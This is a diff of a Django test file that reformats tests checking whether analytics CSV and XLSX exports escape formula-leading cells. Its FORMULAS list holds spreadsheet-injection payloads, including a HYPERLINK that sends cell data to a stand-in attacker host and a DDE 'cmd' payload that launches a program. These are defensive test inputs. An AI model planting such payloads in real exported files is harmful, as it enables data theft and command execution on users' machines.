@@ -15,8 +15,14 @@ from .conftest import bearer
 
 pytestmark = pytest.mark.django_db
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "\r=1+2",
+]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -54,8 +60,9 @@ def test_analytics_exports_escape_text_cells_in_csv_and_xlsx():
     assert not [cell for cell in cells if cell.data_type == "f"]
     assert "'=1+2" in [cell.value for cell in cells]
     # (XML reads a stored CR back as LF)
-    assert [row[0] for row in sheet.iter_rows(min_row=5, values_only=True)] \
-        == ["'" + text.replace("\r", "\n") for text in FORMULAS]
+    assert [row[0] for row in sheet.iter_rows(min_row=5, values_only=True)] == [
+        "'" + text.replace("\r", "\n") for text in FORMULAS
+    ]
     assert -3 in [row[1] for row in sheet.iter_rows(min_row=5, values_only=True)]
 
 
